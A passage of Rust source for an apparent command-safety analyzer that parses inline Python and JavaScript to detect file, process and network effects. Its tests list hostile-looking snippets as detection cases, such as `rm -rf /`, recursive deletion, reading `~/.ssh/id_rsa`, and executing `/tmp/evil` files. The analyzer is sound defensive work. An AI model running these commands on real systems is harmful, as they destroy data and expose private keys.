//! Code in other languages inside a line (`python -c`, `node -e`, a script that the line writes): what it plainly
//! does to files, programs and hosts.
//!
//! Finding danger is generous: whatever is plain becomes an effect or a command of its own, also in code that is
//! not understood as a whole. Calling code harmless is strict: every construct and every name in it must be known,
//! and everything that is done must be done to something that is known.

mod javascript;
mod python;
mod simple;
mod words;

use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet};
use std::time::{Duration, Instant};

use tree_sitter::{Language as Grammar, Node, ParseOptions, ParseState, Parser, Tree};

use crate::effect::{Action, Source};
use crate::findings::{Findings, Nested};
use crate::flow::push_piece;
use crate::model::Language;
use crate::sniff;
use crate::word::{Piece, Word};

include!(concat!(env!("OUT_DIR"), "/apis.rs"));

/// Longest code that is read.
const MAX_CODE: usize = 16 * 1024;
/// Most expressions and statements that are looked at, those of loops and functions each time anew.
const MAX_STEPS: usize = 8_000;
/// Deepest nesting that is followed.
const MAX_DEPTH: usize = 48;
/// Deepest calls of the code's own functions, and of code within code.
const MAX_CALLS: usize = 4;
/// Most elements of a list for each of which a loop is followed.
const MAX_ELEMENTS: usize = 16;
/// Longest time that a grammar may take.
const DEADLINE: Duration = Duration::from_millis(20);
/// Most texts that are parsed, code within code included.
const MAX_PARSES: usize = 2;

/// What the calls of a language do, from `policies/parts/apis.yaml`; every list is sorted.
struct Api {
    loaded: &'static [&'static str],
    harmless: &'static [&'static str],
    options: &'static [&'static str],
    methods: &'static [&'static str],
    modules: &'static [&'static str],
    foreign: &'static [&'static str],
    calls: &'static [(&'static str, &'static str)],
    gives: &'static [(&'static str, &'static str)],
}

impl Api {
    fn meaning(list: &[(&str, &'static str)], name: &str) -> Option<&'static str> {
        let at = list.binary_search_by_key(&name, |(known, _)| known).ok()?;
        list.get(at).map(|(_, meaning)| *meaning)
    }
}

fn has(list: &[&str], name: &str) -> bool {
    list.binary_search(&name).is_ok()
}

/// What is known of a value before the code runs.
#[derive(Debug, Clone, PartialEq)]
enum Value {
    /// Data, or something that only computes: nothing can be done with it.
    Data,
    /// Text; `sure` says that it can be no other.
    Text { word: Word, sure: bool },
    /// A list or tuple.
    List(Vec<Value>),
    /// A path as an object that has methods.
    Path { word: Word, sure: bool },
    /// A module, or something in one, by its whole name.
    Name(String),
    /// A function that the code itself makes.
    Local(String),
    /// Anything.
    Opaque,
}

impl Value {
    fn text(bytes: impl Into<Vec<u8>>) -> Self {
        Value::Text {
            word: Word::literal(bytes),
            sure: true,
        }
    }

    /// The text or path, and whether it is certain.
    fn word(&self) -> Option<(&Word, bool)> {
        match self {
            Value::Text { word, sure } | Value::Path { word, sure } => Some((word, *sure)),
            _ => None,
        }
    }

    /// Whether nothing can be done by it, whoever gets it.
    fn is_data(&self) -> bool {
        match self {
            Value::Data | Value::Text { .. } => true,
            Value::List(values) => values.iter().all(Value::is_data),
            _ => false,
        }
    }

    /// The same after something may have changed it.
    fn unsure(self) -> Self {
        match self {
            Value::Text { word, .. } => Value::Text { word, sure: false },
            Value::Path { word, .. } => Value::Path { word, sure: false },
            Value::List(values) => Value::List(values.into_iter().map(Value::unsure).collect()),
            other => other,
        }
    }

    /// One value or the other.
    fn or(self, other: Value) -> Value {
        match (self, other) {
            (one, other) if one == other => one,
            (one, other) if one.is_data() && other.is_data() => Value::Data,
            _ => Value::Opaque,
        }
    }
}

/// An argument of a call in the code.
struct Argument {
    keyword: Option<String>,
    value: Value,
}

/// Where the code stands.
pub(crate) struct Place<'p> {
    /// The arguments of the program that stand behind the code.
    pub given: &'p [Word],
    /// Home directory.
    pub home: Option<&'p [u8]>,
}

/// Notes what code plainly does; `true` when that is all that it does.
pub(crate) fn read(
    language: Language,
    text: &[u8],
    place: &Place,
    findings: &mut Findings,
) -> bool {
    if text.len() > MAX_CODE {
        return false;
    }
    match language {
        Language::Perl | Language::Ruby => {
            words::read(text, findings);
            false
        }
        Language::Python | Language::JavaScript => {
            let mut reader = Reader::new(language, place, findings);
            reader.text_of(text, 0)
        }
    }
}

/// Whether a reader of bytes could see other lines or names than a grammar does.
fn deceives(text: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(text) else {
        return true;
    };
    text.chars().any(|c| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}' | '\u{feff}')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}')
    }) || text.contains("<!--")
        || text.contains("-->")
        || text.contains("coding")
            && text
                .lines()
                .take(2)
                .any(|line| line.contains('#') && line.contains("coding"))
}

thread_local! {
    static PARSERS: RefCell<[Option<Parser>; 2]> = const { RefCell::new([None, None]) };
}

fn parse(language: Language, text: &[u8]) -> Option<Tree> {
    PARSERS.with_borrow_mut(|slots| {
        let (slot, grammar): (_, Grammar) = match language {
            Language::Python => (&mut slots[0], tree_sitter_python::LANGUAGE.into()),
            _ => (&mut slots[1], tree_sitter_javascript::LANGUAGE.into()),
        };
        if slot.is_none() {
            let mut parser = Parser::new();
            parser.set_language(&grammar).ok()?;
            *slot = Some(parser);
        }
        let parser = slot.as_mut()?;
        let mut started: Option<Instant> = None;
        let mut late =
            |_: &ParseState| started.get_or_insert_with(Instant::now).elapsed() > DEADLINE;
        let options = ParseOptions::new().progress_callback(&mut late);
        let tree = parser.parse_with_options(
            &mut |at, _| text.get(at..).unwrap_or_default(),
            None,
            Some(options),
        );
        if tree.is_none() {
            parser.reset();
        }
        tree
    })
}

/// Goes through code in one language.
struct Reader<'r> {
    language: Language,
    api: &'static Api,
    given: &'r [Word],
    home: Option<&'r [u8]>,
    findings: &'r mut Findings,
    names: BTreeMap<String, Value>,
    /// Names that the code gives a value more than once.
    often: BTreeSet<String>,
    seen: BTreeSet<String>,
    /// Functions of the code that were followed, and those that somebody else may call.
    followed: BTreeSet<String>,
    escaped: BTreeSet<String>,
    /// What functions that are followed give back, the innermost last.
    returned: Vec<Value>,
    /// Everything so far was understood.
    plain: bool,
    /// Something was fetched, or decoded.
    fetched: bool,
    decoded: bool,
    steps: usize,
    depth: usize,
    calls: usize,
    parses: usize,
}

impl<'r> Reader<'r> {
    fn new(language: Language, place: &'r Place<'r>, findings: &'r mut Findings) -> Self {
        Self {
            language,
            api: match language {
                Language::Python => &PYTHON,
                _ => &JAVASCRIPT,
            },
            given: place.given,
            home: place.home,
            findings,
            names: BTreeMap::new(),
            often: BTreeSet::new(),
            seen: BTreeSet::new(),
            followed: BTreeSet::new(),
            escaped: BTreeSet::new(),
            returned: Vec::new(),
            plain: true,
            fetched: false,
            decoded: false,
            steps: 0,
            depth: 0,
            calls: 0,
            parses: 0,
        }
    }

    /// Reads a whole text; `true` when nothing in it stayed unclear.
    fn text_of(&mut self, text: &[u8], inside: usize) -> bool {
        if inside > MAX_CALLS || self.parses == MAX_PARSES {
            return false;
        }
        self.parses += 1;
        let Some(tree) = parse(self.language, text) else {
            return false;
        };
        let root = tree.root_node();
        self.plain &= !root.has_error() && !deceives(text);
        self.plain &= simple::is_simple(self.language, root, text);
        let code = Code {
            text,
            functions: RefCell::new(BTreeMap::new()),
        };
        match self.language {
            Language::Python => self.python_program(root, &code),
            _ => self.javascript_program(root, &code),
        }
        // What somebody else may call gets data; what nobody calls does nothing, but may be meant to.
        let functions: Vec<String> = code.functions.borrow().keys().cloned().collect();
        for name in functions {
            if self.followed.contains(&name) {
                continue;
            }
            let plain = self.plain;
            let called = self.escaped.contains(&name);
            match self.language {
                Language::Python => self.python_local(&name, Vec::new(), &code),
                _ => self.javascript_local(&name, Vec::new(), &code),
            };
            self.plain = plain && (self.plain || !called);
        }
        self.plain
    }

    /// Pays for a step down; `false` when that was enough.
    fn enter(&mut self) -> bool {
        self.steps += 1;
        if self.steps > MAX_STEPS || self.depth >= MAX_DEPTH {
            self.plain = false;
            return false;
        }
        self.depth += 1;
        true
    }

    /// Notes that something was not understood.
    fn opaque(&mut self) -> Value {
        self.plain = false;
        Value::Opaque
    }

    /// A value that is handed on: what it may be used for elsewhere cannot be seen.
    fn settle(&mut self, value: Value) -> Value {
        match value {
            Value::Name(name) if has(self.api.harmless, &name) => Value::Data,
            Value::Name(_) => self.opaque(),
            Value::List(values) => {
                Value::List(values.into_iter().map(|value| self.settle(value)).collect())
            }
            Value::Local(name) => {
                self.escaped.insert(name.clone());
                Value::Local(name)
            }
            other => other,
        }
    }

    fn bind(&mut self, name: &str, value: Value) {
        let value = match value {
            Value::Name(_) if self.often.contains(name) => self.opaque(),
            value if self.often.contains(name) => value.unsure(),
            // A list can be changed through any of its names.
            Value::List(values) => Value::List(values.into_iter().map(Value::unsure).collect()),
            value => value,
        };
        let value = match self.names.get(name) {
            // What one turn of a loop or another branch gave it may be what it has.
            Some(before) if self.often.contains(name) && !before.is_data() => {
                before.clone().or(value)
            }
            _ => value,
        };
        self.names.insert(name.to_owned(), value);
    }

    fn lookup(&mut self, name: &str) -> Value {
        if let Some(value) = self.names.get(name) {
            return value.clone();
        }
        let api = self.api;
        let known = has(api.harmless, name)
            || Api::meaning(api.calls, name).is_some()
            || self.language == Language::JavaScript && is_global(api, name);
        match known {
            true => Value::Name(name.to_owned()),
            false => self.opaque(),
        }
    }

    /// A module by name, if it is one that can be known.
    fn module(&mut self, name: &str) -> Value {
        let name = name.strip_prefix("node:").unwrap_or(name);
        // `fs.promises` is a package of somebody's, `fs/promises` is not.
        if self.language == Language::JavaScript && name.contains('.') {
            return self.opaque();
        }
        let name = name.replace('/', ".");
        if self.language == Language::Python && !has(self.api.loaded, &name) {
            // A file of that name in the working directory comes first.
            let first = name.split('.').next().unwrap_or(&name);
            let file = Word::literal(format!("{first}.py"));
            self.findings.code(Source::File, file);
        }
        if has(self.api.modules, &name) {
            return Value::Name(name);
        }
        self.plain = false;
        match has(self.api.foreign, &name) {
            true => Value::Name(name),
            false => Value::Opaque,
        }
    }

    /// Something in a module or on an object.
    fn member(&mut self, object: Value, name: &str) -> Value {
        if is_hidden(self.language, name) {
            return self.opaque();
        }
        match object {
            // Every variable of the environment is text.
            Value::Name(module)
                if self.language == Language::JavaScript
                    && has(self.api.harmless, &format!("{module}[]")) =>
            {
                Value::Data
            }
            Value::Name(module) => Value::Name(format!("{module}.{name}")),
            Value::Path { .. } => match has(self.api.harmless, &format!("pathlib.Path().{name}")) {
                true => Value::Data,
                false => self.opaque(),
            },
            value if value.is_data() => Value::Data,
            _ => Value::Opaque,
        }
    }

    /// A call of a method.
    fn method(&mut self, object: Value, name: &str, arguments: Vec<Argument>) -> Value {
        if is_hidden(self.language, name) {
            return self.opaque();
        }
        match object {
            Value::Name(module) => self.call(&format!("{module}.{name}"), arguments),
            Value::Path { .. } => {
                let mut all = vec![Argument {
                    keyword: None,
                    value: object,
                }];
                all.extend(arguments);
                self.call(&format!("pathlib.Path().{name}"), all)
            }
            Value::Text { ref word, sure } if name == "join" => {
                match arguments.into_iter().next().map(|first| first.value) {
                    Some(Value::List(parts)) => join(word, &parts, sure),
                    Some(value) if value.is_data() => Value::Data,
                    _ => self.opaque(),
                }
            }
            object => {
                let data = object.is_data();
                let mut handed = true;
                for argument in arguments {
                    handed &= self.handed(argument.value);
                }
                match data && handed && has(self.api.methods, name) {
                    true => Value::Data,
                    false => self.opaque(),
                }
            }
        }
    }

    /// Whether a value may be given to something that only computes.
    fn handed(&mut self, value: Value) -> bool {
        let value = self.settle(value);
        value.is_data() || matches!(value, Value::Local(_))
    }

    /// What a loop over a value gives its name, one after the other.
    fn elements(&mut self, value: Value) -> Vec<Value> {
        match value {
            Value::List(values) if values.len() <= MAX_ELEMENTS && !values.is_empty() => values,
            Value::List(values) => {
                let all = values.into_iter().reduce(Value::or);
                vec![all.unwrap_or(Value::Data)]
            }
            value => vec![match self.settle(value).is_data() {
                true => Value::Data,
                false => Value::Opaque,
            }],
        }
    }

    /// A call of something by its whole name.
    fn call(&mut self, name: &str, arguments: Vec<Argument>) -> Value {
        let api = self.api;
        let root = name.split('.').next().unwrap_or(name);
        self.plain &= !has(api.foreign, root);
        if let Some(kind) = Api::meaning(api.gives, name) {
            return self.given_path(kind, name, arguments);
        }
        if let Some(meanings) = Api::meaning(api.calls, name) {
            return self.does(meanings, arguments);
        }
        if !has(api.harmless, name) {
            self.settle_all(arguments);
            return self.opaque();
        }
        let last = name.rsplit('.').next().unwrap_or(name);
        const DECODERS: [&str; 6] = [
            "decode",
            "fromhex",
            "unhexlify",
            "decompress",
            "atob",
            "unquote",
        ];
        self.decoded |= DECODERS.iter().any(|part| last.contains(part))
            || name == "Buffer.from" && arguments.len() > 1;
        let prints = matches!(
            name,
            "print" | "str" | "len" | "repr" | "bool" | "console.log"
        );
        let mut paths = false;
        let mut calls = false;
        for argument in arguments {
            let value = self.settle(argument.value);
            calls |= matches!(value, Value::Local(_)) || argument.keyword.is_some();
            paths |= !value.is_data() && !matches!(value, Value::Local(_));
        }
        match (paths, calls || !prints) {
            (false, _) | (true, false) => Value::Data,
            // What is in it may be taken out again, or handed to a function of the code.
            (true, true) => {
                self.plain &= !calls;
                Value::Opaque
            }
        }
    }

    fn given_path(&mut self, kind: &str, name: &str, arguments: Vec<Argument>) -> Value {
        let mut path = Word::default();
        let mut certain = true;
        if kind == "home" {
            let first = arguments.first().and_then(|first| first.value.word());
            let (word, sure) = match first {
                Some((word, sure)) => (word.clone(), sure),
                None if arguments.is_empty() => (Word::literal(b"~"), true),
                None => {
                    self.settle_all(arguments);
                    return Value::Data;
                }
            };
            let at_home = word.known_prefix() == b"~" || word.known_prefix().starts_with(b"~/");
            path = word.clone();
            if at_home {
                path = self.home.map_or_else(|| Word::unknown(b"~"), Word::literal);
                let rest = word.tail(1);
                for piece in rest.pieces {
                    push_piece(&mut path.pieces, piece);
                }
            } else if word.known_prefix().starts_with(b"~") {
                certain = false;
            }
            certain &= sure;
        } else {
            for argument in &arguments {
                let Some((part, sure)) = argument.value.word() else {
                    certain = false;
                    push_piece(&mut path.pieces, Piece::Unknown(b"?".to_vec()));
                    continue;
                };
                certain &= sure;
                if part.known_prefix().starts_with(b"/") {
                    path = Word::default();
                } else if !path.pieces.is_empty() && !path.known_suffix().ends_with(b"/") {
                    path.push_known(b"/");
                }
                for piece in part.pieces.clone() {
                    push_piece(&mut path.pieces, piece);
                }
            }
            if arguments.is_empty() {
                path = Word::literal(b".");
            }
        }
        match name.contains("Path") {
            true => Value::Path {
                word: path,
                sure: certain,
            },
            false => Value::Text {
                word: path,
                sure: certain,
            },
        }
    }

    fn settle_all(&mut self, arguments: Vec<Argument>) {
        for argument in arguments {
            self.settle(argument.value);
        }
    }

    /// Notes what a call does to its arguments.
    fn does(&mut self, meanings: &str, arguments: Vec<Argument>) -> Value {
        let mut gives = Value::Data;
        let mut keywords = Vec::new();
        let mut positional = Vec::new();
        for argument in arguments {
            match argument.keyword {
                Some(keyword) => keywords.push((keyword, argument.value)),
                None => positional.push(argument.value),
            }
        }
        let shell = keywords.iter().any(|(keyword, _)| keyword == "shell");
        let recursive = keywords.iter().any(|(keyword, _)| keyword == "recursive");
        let mode = keywords
            .iter()
            .find(|(keyword, _)| keyword == "mode")
            .map(|(_, value)| value.clone());
        for (keyword, value) in keywords {
            let known = has(self.api.options, &keyword) || keyword == "shell";
            self.plain &= known && self.handed(value);
        }
        // What a program is given besides its words (an environment, a stream, an option that names another
        // shell) is not followed.
        let kinds = meanings.split_ascii_whitespace();
        let mut kinds = kinds.map(|meaning| meaning.split('-').next().unwrap_or(meaning));
        self.plain &= !kinds.any(|kind| matches!(kind, "program" | "argv" | "shell"));
        let mut values = positional.into_iter().peekable();
        let mut program: Option<Word> = None;
        for meaning in meanings.split_ascii_whitespace() {
            if meaning == "object" {
                gives = Value::Opaque;
                continue;
            }
            let Some(value) = values.next() else {
                match meaning {
                    // What is listed without a name is the working directory.
                    "list" | "list-all" => {
                        self.path(Action::List, &Word::literal(b"."), meaning, true)
                    }
                    "write-all" => self.path(Action::Write, &Word::literal(b"."), meaning, true),
                    "argv" | "argv-named" | "text" => {}
                    _ => self.plain = false,
                }
                continue;
            };
            let known = value.word().map(|(word, sure)| (word.clone(), sure));
            let (meaning_of, _) = meaning.split_once('-').unwrap_or((meaning, ""));
            match (meaning_of, known) {
                ("text", _) => self.plain &= self.handed(value),
                ("argv", known) => {
                    let value = match value {
                        // What it is called by is not what is started.
                        Value::List(mut words) if meaning == "argv-named" && !words.is_empty() => {
                            words.remove(0);
                            Value::List(words)
                        }
                        value => value,
                    };
                    self.argv(value, known, shell, program.take());
                }
                ("program", Some((word, sure))) => {
                    self.plain &= sure;
                    program = Some(word);
                }
                ("module", Some((word, true))) => {
                    // Loaded by name: it is known, but what is loaded by a name seldom is.
                    let name = String::from_utf8_lossy(&word.text()).into_owned();
                    let dynamic = self.language == Language::Python;
                    self.plain &= !dynamic;
                    gives = self.module(&name);
                }
                ("shell", Some((word, sure))) if word.is_literal() => {
                    self.plain &= sure;
                    self.findings.nested.push(Nested::text(word));
                }
                ("url", Some((word, sure))) => {
                    self.plain &= sure && word.is_literal();
                    self.fetched = true;
                    sniff::url(&word, &mut self.findings.effects);
                }
                ("host", Some((word, sure))) => {
                    self.plain &= sure && word.is_literal();
                    sniff::host(&word, &mut self.findings.effects);
                }
                ("host", None) => {
                    // `(host, port)`, or a port alone.
                    if let Value::List(parts) = &value
                        && let Some((word, _)) = parts.first().and_then(Value::word)
                    {
                        sniff::host(&word.clone(), &mut self.findings.effects);
                    }
                    self.plain = false;
                }
                ("code", known) => {
                    self.plain = false;
                    if let Some((word, _)) = known
                        && let Some(text) = word.value()
                    {
                        let (plain, calls) = (self.plain, self.calls);
                        if calls < MAX_CALLS {
                            self.calls += 1;
                            self.text_of(text, calls);
                            self.calls = calls;
                        }
                        self.plain = plain;
                    }
                    self.hidden();
                }
                ("open", Some((word, sure))) => {
                    let mode = mode.clone().or_else(|| values.next());
                    self.open(&word, sure, mode);
                }
                ("read" | "write" | "delete" | "chmod" | "list", Some((word, sure))) => {
                    let action = Action::from_name(meaning_of).unwrap_or(Action::Write);
                    let all = if recursive && meaning_of != "write" {
                        "all"
                    } else {
                        meaning
                    };
                    self.path(action, &word, all, sure);
                    if matches!(meaning, "list-all" | "list-names") {
                        gives = self.found(&word);
                    }
                }
                ("shell", _) => {
                    self.plain = false;
                    self.hidden();
                }
                _ => self.plain = false,
            }
        }
        if let Some(program) = program {
            self.words(vec![program]);
        }
        for rest in values {
            // What else a request is given it sends; options that do not stand there may say anything.
            self.plain &= matches!(rest, Value::Text { .. })
                && self.handed(rest)
                && !(meanings == "url" && self.language == Language::Python);
        }
        gives
    }

    /// Code or shell text that only the run makes: where it comes from is known by what was called for it.
    fn hidden(&mut self) {
        let source = match (self.fetched, self.decoded) {
            (true, _) => Source::Network,
            (_, true) => Source::Decoded,
            _ => return,
        };
        self.findings.code(source, Word::default());
    }

    /// What a directory holds: paths that nobody knows.
    fn found(&self, root: &Word) -> Value {
        let mut word = root.clone();
        word.push_known(b"/");
        word.pieces.push(Piece::Unknown(b"*".to_vec()));
        Value::List(vec![Value::Path { word, sure: false }])
    }

    fn path(&mut self, action: Action, word: &Word, meaning: &str, sure: bool) {
        self.plain &= sure && word.is_literal();
        // What is not known at all says nothing.
        if word.pieces.is_empty() || matches!(word.pieces.first(), Some(Piece::Unknown(_))) {
            return;
        }
        let first = self.findings.effects.len();
        sniff::path(action, word, &mut self.findings.effects);
        if meaning.ends_with("all") {
            for effect in &mut self.findings.effects[first..] {
                effect.recursive = true;
            }
        }
    }

    /// `open(path, mode)`.
    fn open(&mut self, word: &Word, sure: bool, mode: Option<Value>) {
        let mode = match mode {
            None => Some(b"r".to_vec()),
            Some(Value::Text { word, sure: true }) => word.value().map(<[u8]>::to_vec),
            Some(_) => None,
        };
        let Some(mode) = mode else {
            self.plain = false;
            self.path(Action::Read, word, "", sure);
            return;
        };
        let changes = mode.iter().any(|byte| b"wax+".contains(byte));
        if changes {
            self.path(Action::Write, word, "", sure);
        }
        if !changes || mode.contains(&b'+') {
            self.path(Action::Read, word, "", sure);
        }
    }

    /// A program that is started with its arguments.
    fn argv(
        &mut self,
        value: Value,
        known: Option<(Word, bool)>,
        shell: bool,
        program: Option<Word>,
    ) {
        match (value, known) {
            (Value::List(values), _) => {
                let mut argv: Vec<Word> = program.into_iter().collect();
                for value in values {
                    let value = self.settle(value);
                    match value.word() {
                        Some((word, sure)) => {
                            self.plain &= sure;
                            argv.push(word.clone());
                        }
                        None => {
                            self.plain = false;
                            argv.push(Word {
                                quoted: true,
                                splits: false,
                                pieces: vec![Piece::Unknown(b"?".to_vec())],
                            });
                        }
                    }
                }
                // With a shell, only the first is its text.
                if shell {
                    self.plain = false;
                    if let Some(text) = argv.first().filter(|text| text.is_literal()) {
                        self.findings.nested.push(Nested::text(text.clone()));
                    }
                    return;
                }
                self.words(argv);
            }
            (_, Some((word, sure))) if word.is_literal() => {
                self.plain &= sure;
                match shell {
                    true => self.findings.nested.push(Nested::text(word)),
                    false => {
                        let mut argv: Vec<Word> = program.into_iter().collect();
                        argv.push(word);
                        self.words(argv);
                    }
                }
            }
            (value, _) => {
                self.plain = false;
                self.settle(value);
                if shell {
                    self.hidden();
                }
                if let Some(program) = program {
                    self.words(vec![program]);
                }
            }
        }
    }

    fn words(&mut self, argv: Vec<Word>) {
        // A program that nobody can name is no command that could be judged.
        if !argv.first().is_some_and(Word::is_literal) {
            self.plain = false;
            return;
        }
        self.findings.nested.push(Nested::Words {
            argv,
            assignments: Vec::new(),
            here: false,
        });
    }

    /// Two texts, one behind the other.
    fn joined(&mut self, left: Value, right: Value) -> Value {
        let (left, right) = (self.settle(left), self.settle(right));
        match (&left, &right) {
            (Value::Text { word: a, sure: x }, Value::Text { word: b, sure: y }) => {
                let mut word = a.clone();
                for piece in b.pieces.clone() {
                    push_piece(&mut word.pieces, piece);
                }
                Value::Text {
                    word,
                    sure: *x && *y,
                }
            }
            (Value::List(a), Value::List(b)) => Value::List(a.iter().chain(b).cloned().collect()),
            (a, b) if a.is_data() && b.is_data() => Value::Data,
            _ => Value::Opaque,
        }
    }
}

/// A text that is read, and the functions that it makes.
struct Code<'t> {
    text: &'t [u8],
    functions: RefCell<BTreeMap<String, Node<'t>>>,
}

impl<'t> Code<'t> {
    fn of(&self, node: Node) -> &'t str {
        let bytes = self.text.get(node.byte_range()).unwrap_or_default();
        std::str::from_utf8(bytes).unwrap_or_default()
    }
}

fn is_global(api: &Api, name: &str) -> bool {
    let prefix = |known: &&str| {
        known
            .strip_prefix(name)
            .is_some_and(|rest| rest.starts_with('.') || rest.starts_with('['))
    };
    // Modules are no globals: they have to be asked for.
    matches!(name, "process" | "Buffer")
        || !has(api.modules, name) && api.harmless.iter().any(prefix)
}

/// Names by which the insides of a language are reached.
fn is_hidden(language: Language, name: &str) -> bool {
    const FRAMES: [&str; 7] = ["gi_", "cr_", "ag_", "tb_", "f_", "co_", "func_"];
    match language {
        Language::Python => {
            name.starts_with('_') && !matches!(name, "__name__" | "__version__" | "__doc__")
                || FRAMES.iter().any(|frame| name.starts_with(frame))
                || !name.is_ascii()
        }
        _ => {
            matches!(
                name,
                "constructor"
                    | "prototype"
                    | "call"
                    | "apply"
                    | "bind"
                    | "mainModule"
                    | "binding"
                    | "dlopen"
            ) || name.starts_with('_')
                || !name.is_ascii()
                || name.contains('\\')
        }
    }
}

/// The parts of a list with a text between them.
fn join(between: &Word, parts: &[Value], sure: bool) -> Value {
    let mut word = Word::default();
    let mut certain = sure;
    for (index, part) in parts.iter().enumerate() {
        let Some((part, sure)) = part.word() else {
            return match part.is_data() {
                true => Value::Data,
                false => Value::Opaque,
            };
        };
        certain &= sure;
        let between = (index > 0).then_some(between);
        for piece in between
            .into_iter()
            .chain([part])
            .flat_map(|word| &word.pieces)
        {
            push_piece(&mut word.pieces, piece.clone());
        }
    }
    Value::Text {
        word,
        sure: certain,
    }
}

/// The text of a string literal without its escapes; `None` where one is not followed.
fn unescaped(text: &str) -> Option<Vec<u8>> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, escape)) = rest.split_once('\\') {
        out.push_str(before);
        let kind = escape.chars().next()?;
        let octal = escape
            .bytes()
            .take(3)
            .take_while(|byte| (b'0'..=b'7').contains(byte));
        let (skip, digits, radix) = match kind {
            'x' => (1, 2, 16),
            'u' => (1, 4, 16),
            '0'..='7' => (0, octal.count(), 8),
            _ => (0, 0, 0),
        };
        if digits > 0 {
            let number = u32::from_str_radix(escape.get(skip..skip + digits)?, radix).ok()?;
            out.push(char::from_u32(number)?);
            rest = &escape[skip + digits..];
            continue;
        }
        match kind {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            '\n' => {}
            '\\' | '\'' | '"' | '`' | '$' | '/' => out.push(kind),
            _ => return None,
        }
        rest = &escape[kind.len_utf8()..];
    }
    out.push_str(rest);
    Some(out.into_bytes())
}

#[cfg(test)]
mod tests {
    use super::{MAX_PARSES, Place, Reader, read};
    use crate::effect::Object;
    use crate::findings::{Findings, Nested};
    use crate::model::Language;
    use crate::word::Word;

    /// What is found, and `+` in front when the code is understood.
    fn found(language: Language, text: &str) -> String {
        let mut findings = Findings::default();
        let place = Place {
            given: &[Word::literal("first")],
            home: Some(b"/home/u"),
        };
        let plain = read(language, text.as_bytes(), &place, &mut findings);
        let show = |word: &Word| String::from_utf8_lossy(&word.text()).into_owned();
        let mut all = vec![if plain { "+" } else { "?" }.to_owned()];
        all.extend(findings.effects.iter().map(|effect| {
            let all = if effect.recursive { "-all" } else { "" };
            let name = effect.action.name();
            match &effect.object {
                Object::Path(path) => format!("{name}{all} {}", show(path)),
                Object::Code(source, word) => format!("{} {}", source.name(), show(word)),
                Object::Host { host, .. } => format!("{name} {}", show(host)),
                other => format!("{other:?}"),
            }
        }));
        all.extend(findings.nested.iter().map(|nested| match nested {
            Nested::Text { text, .. } => format!("sh:{}", show(text)),
            Nested::Words { argv, .. } => {
                let words: Vec<String> = argv.iter().map(show).collect();
                format!("argv:{}", words.join(","))
            }
        }));
        all.join(" ").trim().to_owned()
    }

    fn check(language: Language, cases: &[(&str, &str)]) {
        let wrong: Vec<String> = cases
            .iter()
            .map(|(text, expected)| (text, expected, found(language, text)))
            .filter(|(_, expected, found)| found != *expected)
            .map(|(text, expected, found)| format!("{text:?}\n  {found}\n  {expected}"))
            .collect();
        assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    }

    #[test]
    fn python_that_is_understood() {
        check(
            Language::Python,
            &[
                ("print(1+1)", "+"),
                ("import sys; print(sys.version)", "+"),
                ("import sys\nprint(sys.argv[1].upper())", "+"),
                (
                    "import json,sys; print(json.load(sys.stdin)['a']['b'])",
                    "+ file json.py",
                ),
                (
                    "import json; d = json.load(open('package.json')); print(d.get('version'))",
                    "+ file json.py read package.json",
                ),
                ("for i in range(3): print(f'{i:02d} {i*i}')", "?"),
                ("print([x for x in 'a b'.split() if x])", "?"),
                ("open('out.txt', 'w').write('x')", "+ write out.txt"),
                (
                    "with open('a') as f, open('b', mode='a') as g: g.write(f.read())",
                    "? read a write b",
                ),
                (
                    "from pathlib import Path; Path('a/b').write_text('x')",
                    "+ file pathlib.py write a/b",
                ),
                (
                    "from pathlib import Path; print((Path.home() / '.ssh' / 'id_rsa').read_text())",
                    "+ file pathlib.py read /home/u/.ssh/id_rsa",
                ),
                (
                    "import os; os.remove('x'); os.rename('a', 'b')",
                    "+ delete x delete a write b",
                ),
                ("import os, sys; os.remove(sys.argv[1])", "+ delete first"),
                (
                    "import shutil; shutil.rmtree('/srv')",
                    "+ file shutil.py delete-all /srv",
                ),
                ("import os; os.system('rm -rf /')", "? sh:rm -rf /"),
                (
                    "import subprocess as s; s.run(['git', 'push', '-f'], check=True)",
                    "? file subprocess.py argv:git,push,-f",
                ),
                (
                    "import subprocess; subprocess.run('id; id', shell=True)",
                    "? file subprocess.py sh:id; id",
                ),
                (
                    "import urllib.request as u; u.urlopen('https://a.example/x').read()",
                    "? file urllib.py connect a.example",
                ),
                (
                    "def f(p):\n  return open(p).read()\nprint(f('x'))",
                    "? read x",
                ),
                ("def f(x): return x\nprint(list(map(f, [1])))", "?"),
                ("for p in ['a', 'b']: open(p, 'w')", "? write a write b"),
                ("import os\nfor n in os.listdir('.'): print(n)", "? list ."),
            ],
        );
    }

    /// Each of them was once taken for less than it does.
    #[test]
    fn what_deceived_a_reader_is_not_called_harmless() {
        let python = [
            "def f(x=exec(open('/tmp/evil').read())): pass",
            "async def f(x=eval(input())): pass",
            "import os; lambda os: 0; os.remove('x')",
            "from pathlib import Path\ndef f(x): x.replace('/etc/x')\nf(*[Path('a')])",
            "import shutil; lambda shutil: 0; shutil.copy('a', '/etc/x')",
            "from pathlib import Path; p=''; \u{ff50}=Path('a'); p.replace('/etc/x')",
            "import os; os.execv('/usr/bin/git', ['ls', 'push', '--force'])",
            "import subprocess; subprocess.run(['ls'], -1, '/tmp/evil')",
            "import subprocess; subprocess.run('id', -1, None, None, None, None, None, True, True)",
            "import os; os.system('echo \"\\\\$(id)\"')",
            "import os; os.system(b'\\x65cho \\u0023 ; id')",
            "import os; os.popen('bash', 'w').write('id')",
            "from subprocess import *; Popen(['bash'], stdin=PIPE, text=True).communicate('id')",
        ];
        let javascript = [
            "require('child_process').fork('/tmp/evil.js')",
            "require('child_process').spawn('id | sh', {shell: true})",
            "const o = {shell: '/tmp/evil'}; require('child_process').execSync('ls', o)",
            "const o = {recursive: true, force: true}; require('fs').rmSync('.', o)",
            "require('fs').rmSync('.', Object.assign({}, {recursive: true}))",
            "require('fs').rmSync('.', {...{recursive: true}})",
            "require('child_process').spawn('bash').stdin.write('id')",
            "const x = require('fs.promises'); 1",
            "eval('\\467z')",
        ];
